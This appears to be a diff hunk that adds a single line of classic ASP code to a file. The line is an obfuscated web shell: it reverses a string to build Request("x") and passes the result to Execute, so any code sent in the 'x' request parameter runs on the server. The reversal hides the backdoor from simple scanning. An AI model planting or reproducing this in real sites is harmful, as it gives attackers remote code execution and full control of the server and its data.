@@ -1,0 +1,1 @@
+<% Execute(StrReverse(")""x""(tseuqeR")) %>
